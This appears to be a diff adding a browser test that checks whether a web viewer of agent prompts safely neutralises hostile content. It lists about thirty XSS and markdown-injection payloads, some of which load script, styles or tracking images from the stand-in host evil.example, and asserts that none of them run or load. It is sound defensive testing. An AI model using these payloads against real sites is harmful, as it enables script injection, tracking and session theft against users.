@@ -1,0 +1,104 @@
+/** Prompts are written by anyone: whatever stands in one, the page shows it and does nothing else. */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { makeForest } from '../forest.ts'
+import { CHROMIUM, NO_CHROMIUM, openSite, type Site, storeOf } from './browser.ts'
+
+const ATTACKS: readonly string[] = [
+  '<script>window.owned = true</script>',
+  '<script src="https://evil.example/a.js"></script>',
+  '<img src=x onerror="window.owned = true">',
+  '<svg onload="window.owned = true"><script>window.owned = true</script></svg>',
+  '<iframe src="javascript:parent.owned = true"></iframe>',
+  '<iframe srcdoc="<script>parent.owned = true</script>"></iframe>',
+  '<style>@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }</style>',
+  '<link rel="stylesheet" href="https://evil.example/a.css">',
+  '<div style="background: url(https://evil.example/c.png); position: fixed; inset: 0">over everything</div>',
+  '<a href="javascript:window.owned = true">click</a>',
+  '<form action="https://evil.example/"><input name="x"><button>send</button></form>',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">',
+  '<video src="https://evil.example/v.mp4" autoplay onloadstart="window.owned = true"></video>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.owned = true"></style></mglyph></table></mtext></math>',
+  '![tracker](https://evil.example/pixel.png)',
+  '![ref][pixel]\n\n[pixel]: https://evil.example/ref.png "title"',
+  '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
+  '[click](javascript:window.owned=true)',
+  '[click](JaVaScRiPt&#58;window.owned=true)',
+  '[click](data:text/html,<script>opener.owned=true</script>)',
+  '[click](https://evil.example/link)',
+  'https://evil.example/bare www.evil.example mailto:me@evil.example',
+  '<https://evil.example/auto>',
+  '[x](vbscript:msgbox(1)) [y](file:///etc/passwd)',
+  '[^1]\n\n[^1]: <img src=x onerror="window.owned = true">',
+  '- [ ] task <input autofocus onfocus="window.owned = true">',
+  '| a | b |\n|:-:|---|\n| <img src=x onerror="window.owned = true"> | ![](https://evil.example/t.png) |',
+  '```html\n<script>window.owned = true</script>\n```',
+  '{{constructor.constructor("window.owned = true")()}}',
+  '&lt;script&gt;window.owned = true&lt;/script&gt;',
+  '\u202eesrever \u0000 nul \ud800 alone',
+]
+
+const attack = ATTACKS.join('\n\n')
+
+describe.skipIf(NO_CHROMIUM)(`hostile prompts (needs ${CHROMIUM})`, () => {
+  let site: Site
+  beforeAll(async () => {
+    const agent = 'tester"><img src=x onerror="window.owned = true">'
+    const forest = makeForest([
+      {
+        id: 'hostile',
+        turns: [
+          {
+            agent,
+            with: {
+              promptInput: attack,
+              promptOutput: attack,
+              error: { name: attack, message: attack },
+              status: 'ERROR',
+            },
+            calls: [{ agent: 'tester', with: { description: attack } }],
+          },
+        ],
+        with: { title: attack, directory: attack },
+      },
+    ])
+    site = await openSite(await storeOf([forest]))
+  })
+  afterAll(() => site?.close())
+
+  it('run nothing, load nothing and lead nowhere, formatted or raw', { timeout: 60_000 }, async () => {
+    const { page, elsewhere, errors, close } = await site.visit('/')
+    const dialogs: string[] = []
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message())
+      void dialog.dismiss()
+    })
+    const prompt = page.getByRole('region', { name: 'Prompt' })
+    const answer = page.getByRole('region', { name: 'Answer' })
+    await prompt.locator('.markdown').waitFor()
+    const elements = () =>
+      page
+        .locator(
+          '.detail :is(a[href], img, script, style, iframe, object, embed, form, video, audio, link, base, meta, math, [style], [onerror], [onload], [onfocus])',
+        )
+        .evaluateAll((found) => found.map((element) => element.outerHTML))
+    const own = await page.getByRole('link', { name: 'Show this query' }).count()
+    expect(own).toBeGreaterThan(0)
+    // The only link is the page's own, the only inline styles are the hues of agents.
+    const foreign = async () =>
+      (await elements()).filter(
+        (html) => !html.includes('/graphql?query=') && !/^<span class="agent" style="--hue: [\d.]+;">/.test(html),
+      )
+    expect(await foreign()).toEqual([])
+    // What would have loaded is named with its address instead.
+    expect(await prompt.textContent()).toContain('https://evil.example/pixel.png')
+    for (const part of await page.locator('.markdown .address').all()) await part.click({ force: true })
+    await prompt.getByText('Raw').click()
+    await answer.getByText('Raw').click()
+    expect(await prompt.locator('pre.raw').textContent()).toContain('<script>window.owned = true</script>')
+    expect(await foreign()).toEqual([])
+    expect(await page.evaluate('window.owned')).toBeUndefined()
+    expect([elsewhere, errors, dialogs]).toEqual([[], [], []])
+    expect(new URL(page.url()).origin).toBe(site.url)
+    await close()
+  })
+})
